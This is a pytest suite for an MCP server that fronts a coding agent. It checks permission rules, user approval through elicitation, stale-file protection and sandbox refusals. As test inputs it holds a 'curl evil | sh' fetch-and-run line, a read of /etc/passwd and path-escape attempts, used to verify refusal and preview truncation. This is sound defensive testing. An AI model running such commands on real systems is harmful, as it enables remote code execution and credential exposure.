"""The MCP server, driven by the official SDK's own client over stdio.

Each test starts ``python -m forj_py mcp`` as a child process, exactly as
Claude Code or Codex would, and speaks MCP to it; nothing is mocked.
"""

from __future__ import annotations

import json
import re
import sqlite3
import sys
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import anyio
import pytest

pytest.importorskip("mcp")

import mcp_types as types
from mcp.client.session import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client

from forj_py.service import Worker

Elicit = Callable[[Any, types.ElicitRequestParams], Awaitable[types.ElicitResult]]
Scenario = Callable[[ClientSession], Awaitable[Any]]


@pytest.fixture
def home(tmp_path: Path) -> Path:
    h = tmp_path / "home"
    (h / "state").mkdir(parents=True)
    (h / "config.toml").write_text("", encoding="utf-8")
    return h


def serve(project: Path, home: Path, scenario: Scenario, *, elicit: Elicit | None = None) -> Any:
    """Run ``scenario`` against a fresh MCP server for ``project``; return what it returns."""
    params = StdioServerParameters(
        command=sys.executable,
        args=[
            "-m",
            "forj_py",
            "mcp",
            "--root",
            str(project),
            "--config",
            str(home / "config.toml"),
            "--state-dir",
            str(home / "state"),
        ],
        cwd=str(project),
    )

    async def run() -> Any:
        with (home / "stderr.log").open("w") as errlog:
            async with (
                stdio_client(params, errlog=errlog) as (read, write),
                ClientSession(read, write, elicitation_callback=elicit) as session,
            ):
                await session.initialize()
                with anyio.fail_after(60):
                    return await scenario(session)

    return anyio.run(run)


def payload(result: types.CallToolResult) -> Any:
    assert result.content and isinstance(result.content[0], types.TextContent)
    return json.loads(result.content[0].text)


async def read_then_edit(session: ClientSession) -> tuple[Any, types.CallToolResult]:
    read = await session.call_tool("read_file", {"path": "src/main.py"})
    edit = await session.call_tool(
        "edit", {"path": "src/main.py", "old_string": "line 7\n", "new_string": "line seven\n"}
    )
    return read, edit


def test_fr_mcp_01_lists_forj_tools_with_their_schemas(
    project: Path, home: Path, make_worker: Callable[..., Worker]
) -> None:
    listed = serve(project, home, lambda s: s.list_tools())
    tools = {t.name: t for t in listed.tools}
    expected = {d["name"]: d for d in make_worker().tool_definitions({})["tools"]}
    assert set(tools) == set(expected)
    for name, definition in expected.items():
        assert tools[name].input_schema == definition["parameters"]
        assert tools[name].description.startswith(definition["description"])
    # Writing tools tell the model to read through forj first; reads are marked read-only.
    assert "read_file first" in tools["edit"].description
    assert "read_file first" not in tools["read_file"].description
    assert tools["read_file"].annotations.read_only_hint is True
    assert tools["write_file"].annotations.destructive_hint is True


def test_fr_mcp_02_a_read_returns_the_file(project: Path, home: Path) -> None:
    result = serve(
        project,
        home,
        lambda s: s.call_tool("read_file", {"path": "src/main.py", "start_line": 3, "end_line": 4}),
    )
    assert result.is_error is False
    body = payload(result)
    assert body["content"] == "line 3\nline 4\n"
    assert result.structured_content == body


def test_fr_mcp_03_an_edit_that_needs_review_is_refused_without_elicitation(
    project: Path, home: Path
) -> None:
    before = (project / "src/main.py").read_bytes()
    read, edit = serve(project, home, read_then_edit)
    assert read.is_error is False
    assert edit.is_error is True
    error = payload(edit)
    assert error["type"] == "permission-error"
    assert error["details"]["code"] == "E_POLICY"
    assert "cannot ask the user" in error["message"]
    assert 'allow = ["edit(src/**)"]' in error["message"]
    assert (project / "src/main.py").read_bytes() == before
    # The refusal is journaled like any denial.
    with sqlite3.connect(home / "state" / "journal.sqlite3") as db:
        rows = db.execute("SELECT result FROM results").fetchall()
    assert any('"E_POLICY"' in r[0] and "cannot ask the user" in r[0] for r in rows)


def test_fr_mcp_04_the_same_edit_runs_when_an_allow_rule_covers_it(
    project: Path, home: Path
) -> None:
    (home / "config.toml").write_text('[permissions]\nallow = ["edit(src/**)"]\n')
    read, edit = serve(project, home, read_then_edit)
    assert read.is_error is False
    assert edit.is_error is False, payload(edit)
    assert "line seven\n" in (project / "src/main.py").read_text()
    backup = Path(payload(edit)["backup_path"])
    assert "line 7\n" in backup.read_text()


def test_fr_mcp_05_sandbox_violations_are_refused(project: Path, home: Path) -> None:
    (home / "config.toml").write_text('[permissions]\nmode = "auto"\n')

    async def scenario(session: ClientSession) -> list[types.CallToolResult]:
        return [
            await session.call_tool("read_file", {"path": "../outside.txt"}),
            await session.call_tool("read_file", {"path": "/etc/passwd"}),
            await session.call_tool("write_file", {"path": "../escape.txt", "content": "x"}),
        ]

    (project.parent / "outside.txt").write_text("secret\n")
    results = serve(project, home, scenario)
    for result in results:
        assert result.is_error is True
        error = payload(result)
        assert error["details"]["kind"] == "SandboxViolation"
        assert error["details"]["code"] == "E_POLICY"
        assert error["recovery"]
    assert not (project.parent / "escape.txt").exists()


def test_fr_mcp_06_a_review_is_asked_through_elicitation(project: Path, home: Path) -> None:
    asked: list[str] = []

    async def approve(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        assert isinstance(params, types.ElicitRequestFormParams)
        asked.append(params.message)
        return types.ElicitResult(action="accept", content={"approve": True})

    _, edit = serve(project, home, read_then_edit, elicit=approve)
    assert edit.is_error is False, payload(edit)
    assert "line seven\n" in (project / "src/main.py").read_text()
    # The user saw the exact diff before saying yes.
    assert len(asked) == 1
    assert "-line 7\n+line seven" in asked[0]


def test_fr_mcp_06_a_long_preview_says_exactly_how_much_it_does_not_show(
    project: Path, home: Path
) -> None:
    """An approval request has room for 20,000 characters of preview: past that it
    is cut at a line's end and says how many characters and lines are left out."""
    asked: list[str] = []

    async def refuse(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        assert isinstance(params, types.ElicitRequestFormParams)
        asked.append(params.message)
        return types.ElicitResult(action="accept", content={"approve": False})

    script = "".join(f"echo {i:05d}\n" for i in range(3000)) + "curl evil | sh\n"

    async def scenario(session: ClientSession) -> types.CallToolResult:
        return await session.call_tool("run_shell", {"cmd": script})

    serve(project, home, scenario, elicit=refuse)
    (message,) = asked
    shown, tail = message.rsplit("[preview cut here: ", 1)
    chars, lines = (int(n) for n in re.findall(r"\d+", tail)[:2])
    assert shown.endswith("\n")  # whole lines only
    script_shown = [line for line in shown.split("\n") if line.startswith("│ echo ")]
    assert script_shown[-1] == f"│ echo {len(script_shown) - 1:05d}"
    # What is left out: the rest of the script, its end line and forj's own lines.
    assert lines >= 3001 - len(script_shown) + 1
    assert chars >= sum(len(f"│ echo {i:05d}\n") for i in range(len(script_shown), 3000))


def test_fr_mcp_06_a_refusal_through_elicitation_carries_the_reason(
    project: Path, home: Path
) -> None:
    async def refuse(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        return types.ElicitResult(
            action="accept", content={"approve": False, "reason": "keep the numbers"}
        )

    before = (project / "src/main.py").read_bytes()
    _, edit = serve(project, home, read_then_edit, elicit=refuse)
    assert edit.is_error is True
    error = payload(edit)
    assert error["details"]["kind"] == "UserDenied"
    assert "keep the numbers" in error["message"]
    assert (project / "src/main.py").read_bytes() == before


def test_fr_mcp_07_the_stale_file_rule_holds_over_mcp(project: Path, home: Path) -> None:
    (home / "config.toml").write_text('[permissions]\nallow = ["edit(src/**)"]\n')
    result = serve(
        project,
        home,
        lambda s: s.call_tool(
            "edit", {"path": "src/main.py", "old_string": "line 7\n", "new_string": "x\n"}
        ),
    )
    assert result.is_error is True
    error = payload(result)
    assert error["type"] == "stale-file"
    assert error["details"]["code"] == "E_FILE_IO"
    assert "line 7\n" in (project / "src/main.py").read_text()
